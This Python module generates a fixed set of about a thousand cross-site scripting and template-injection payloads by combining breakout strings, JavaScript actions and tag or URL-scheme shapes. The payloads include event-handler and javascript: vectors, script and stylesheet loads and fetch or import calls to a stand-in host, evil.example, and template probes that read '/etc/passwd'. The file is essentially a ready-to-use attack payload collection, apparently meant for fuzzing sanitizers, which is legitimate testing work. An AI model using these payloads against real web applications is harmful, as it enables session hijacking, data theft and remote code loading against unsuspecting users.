"""A thousand ways to smuggle markup into a page: every opening with every action, in several disguises."""

from __future__ import annotations

from itertools import product

ACTIONS = (
    "alert(1)",
    "fetch('//evil.example/')",
    "document.title='OWNED'",
    "top.location='//evil.example'",
    "import('//evil.example/x.js')",
)
SHAPES = (
    "<script>{a}</script>",
    "<script src=//evil.example/x.js></script>{a}",
    "<img src=x onerror={a}>",
    "<svg onload={a}>",
    "<svg><script>{a}</script></svg>",
    '<iframe src="javascript:{a}"></iframe>',
    "<body onload={a}>",
    '<a href="javascript:{a}">x</a>',
    "<details open ontoggle={a}>x</details>",
    "<input autofocus onfocus={a}>",
    '<math><mi xlink:href="javascript:{a}">x</mi></math>',
    "<style>@import '//evil.example/{a}';</style>",
    "<link rel=stylesheet href=//evil.example/{a}>",
    "<meta http-equiv=refresh content='0;url=javascript:{a}'>",
    '<object data="javascript:{a}"></object>',
    '<embed src="javascript:{a}">',
    '<form action="javascript:{a}"><button>x</button></form>',
    "<video><source onerror={a}></video>",
    "<img src='//evil.example/{a}.png'>",
    "<base href='//evil.example/{a}'>",
    "{{{{ ''.__class__ }}}}{a}",
    "{{% include '/etc/passwd' %}}{a}",
    "${{{a}}}",
    "<!--><script>{a}</script-->",
    "<![CDATA[<script>{a}</script>]]>",
    "<template><script>{a}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={a}>">',
    "<xmp><script>{a}</script></xmp>",
    "<textarea></textarea><script>{a}</script>",
    "<title></title><script>{a}</script>",
)
ADDRESSES = (
    "javascript:{a}",
    " javascript:{a}",
    "java\tscript:{a}",
    "JaVaScRiPt://%0a{a}",
    "data:text/html,<script>{a}</script>",
    "vbscript:{a}",
    "//evil.example/{a}",
    "\\\\evil.example\\{a}",
    "x' onerror='{a}",
    'x" onfocus="{a}" autofocus="',
)
"""For whatever makes a link or an attribute of what it is given."""
BREAKS = (
    "",
    '">',
    "'>",
    "--></textarea>",
    "</q></mark>",
    "</article></span>",
    '" onmouseover="',
    "' autofocus onfocus='",
    "\u2028",
    "\x00",
)


STRIDE = 617
"""Has no divisor in common with how many there are: a walk in such steps meets all kinds soon, and none twice."""


def vectors(number: int = 1000) -> list[str]:
    """Distinct, always the same, of all kinds however few they are."""
    every = [o + s.format(a=a) for o, a, s in product(BREAKS, ACTIONS, (*ADDRESSES, *SHAPES))]
    return [every[n * STRIDE % len(every)] for n in range(number)]
